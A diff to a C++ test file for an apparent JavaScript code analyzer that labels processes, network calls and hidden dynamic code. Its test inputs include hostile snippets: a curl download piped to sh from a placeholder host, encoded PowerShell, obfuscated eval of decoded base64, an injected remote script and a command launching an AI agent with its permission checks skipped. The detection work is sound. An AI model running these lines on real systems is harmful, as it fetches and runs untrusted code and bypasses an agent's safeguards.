@@ -100,7 +100,7 @@ TEST(CodeReading, FindsProgramsAndWhatTheyDo) {
        "process node, process-hidden detached"},
       {"process.binding('spawn_sync').spawn({file: 'ls'})", "process"},
       {"require('child_process').execSync('claude --dangerously-skip-permissions -p hi')",
-       "agent-command claude, agent-command claude -p, process claude"},
+       "agent-command claude, process claude"},
       {"require('child_process').exec('curl -so /tmp/x https://a.example/x; sh /tmp/x')",
        "network a.example, process curl, process-hidden downloaded and run"},
       {"require('child_process').exec('powershell -enc AAAA')",
@@ -130,7 +130,8 @@ TEST(CodeReading, FindsTextThatIsRun) {
       {"[].filter.constructor(atob(x))()", "dynamic-code decoded"},
       {"globalThis['ev' + 'al'](atob(x))", "dynamic-code decoded"},
       {"setTimeout(atob(x), 1)", "dynamic-code decoded"},
-      {"import('data:text/javascript,fetch(%22https://a.example%22)')", "dynamic-code data:"},
+      {"import('data:text/javascript,fetch(%22https://a.example%22)')",
+       "dynamic-code data:, network a.example"},
       {"new (require('worker_threads').Worker)(atob(x), {eval: true})", "dynamic-code decoded"},
       {"module._compile(Buffer.from(x, 'base64').toString(), 'x')", "dynamic-code decoded"},
       {"eval('fetch(\"https://a.example\")')", "network a.example"},
@@ -241,7 +242,7 @@ TEST(CodeReading, SeesThroughWhatHidesNames) {
       {"[require][0]('https').get('https://a.example')", "network a.example"},
       {"this.constructor.constructor(atob(x))()", "dynamic-code decoded"},
       {"require.extensions['.x'] = (m, f) => m._compile(require('fs').readFileSync(f), f)",
-       "(dynamic-code read), global-patching require.extensions..x"},
+       "dynamic-code read, global-patching require.extensions..x"},
       {"'' + {toString() { fetch('https://a.example') }}", "network a.example"},
       {"const s = document.createElement('script'); s.src = 'https://a.example/x.js'",
        "network a.example"},
@@ -269,7 +270,7 @@ TEST(CodeReading, SaysWhatWasNotRead) {
   ParseLimits limits;
   limits.max_bytes = 10;
   EXPECT_EQ(read_code("a.js", "fetch('https://a.example')", limits).reading.unread, "too-large");
-  std::string deep(200'000, '[');
+  std::string deep(20'000, '[');
   EXPECT_NE(read_code("a.js", deep).reading.unread, "");
 }
 
